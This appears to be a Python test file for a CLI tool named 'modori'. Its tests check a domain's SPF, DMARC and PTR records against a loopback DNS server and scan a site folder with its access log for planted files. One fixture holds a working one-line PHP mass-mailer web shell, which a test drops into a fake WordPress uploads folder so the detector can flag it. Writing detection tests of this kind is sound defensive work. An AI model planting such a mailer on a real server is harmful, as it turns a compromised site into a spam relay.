"""`modori domain` against a DNS server on loopback, `modori site` on a small site."""

from __future__ import annotations

import json
from pathlib import Path

from tests.cli.running import modori
from tests.evidence.nameserver import nameserver

ZONE = {
    "shop.example": {"TXT": ["v=spf1 include:rental.example ?all"], "MX": ["10 mx1.rental.example"]},
    "rental.example": {"TXT": ["v=spf1 ip4:192.0.2.0/28 -all"]},
    "_dmarc.shop.example": {"TXT": ["v=DMARC1; p=none"]},
    "11.2.0.192.in-addr.arpa": {"PTR": ["out1.rental.example"]},
    "out1.rental.example": {"A": ["192.0.2.11"]},
}
MAILER = (
    b"<?php foreach (explode(',', base64_decode($_POST['t'])) as $x) mail($x, base64_decode($_POST['s']), $_POST['b']);"
)


def test_a_domain_is_asked_of_the_named_server_alone() -> None:
    with nameserver(ZONE) as (port, table):
        options = ("--online", "--resolver", f"127.0.0.1:{port}", "--address", "192.0.2.11")
        done = modori("domain", "shop.example", *options, "--format", "json")
        asked = len(table.asked)
        spoken = modori("domain", "shop.example", *options, "--lang", "ja").stdout.decode()
    found = json.loads(done.stdout)
    assert done.returncode == 10
    assert "spf-neutral" in found["wrong"]
    assert "dmarc-none" in found["wrong"]
    assert found["outbound"][0]["confirmed"] is True
    assert asked > 5
    assert "p=none" in spoken
    assert "直すところ" in spoken


def test_a_domain_needs_online() -> None:
    assert modori("domain", "shop.example").returncode == 2


def test_a_silent_server_is_said_to_be_silent() -> None:
    done = modori("domain", "shop.example", "--online", "--resolver", "127.0.0.1:9")
    assert done.returncode == 1
    assert b"DNS" in done.stderr


def test_a_dropped_mailer_is_found_with_those_who_called_it(tmp_path: Path) -> None:
    folder = tmp_path / "site" / "wp-content" / "uploads" / "2026" / "05"
    folder.mkdir(parents=True)
    (folder / "x.php").write_bytes(MAILER)
    (tmp_path / "site" / "index.html").write_text("<h1>shop</h1>", encoding="utf-8")
    log = tmp_path / "access_log"
    log.write_text(
        '203.0.113.66 - - [12/Jul/2026:16:01:49 +0900] "POST /wp-content/uploads/2026/05/x.php HTTP/1.1" 200 5 "-" "-"\n'
        * 3,
        encoding="utf-8",
    )
    done = modori("site", tmp_path / "site", log, "--format", "json")
    found = json.loads(done.stdout)
    assert (done.returncode, found["answer"]) == (12, "hostile")
    assert found["files"][0]["path"].endswith("05/x.php")
    assert (found["visits"][0]["ip"], found["visits"][0]["count"]) == ("203.0.113.66", 3)
    assert "203.0.113.66" in modori("site", tmp_path / "site", log).stdout.decode()


def test_a_plain_site_is_calm(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<h1>shop</h1>", encoding="utf-8")
    (tmp_path / "style.css").write_text("h1 { color: red }", encoding="utf-8")
    assert modori("site", tmp_path).returncode == 0
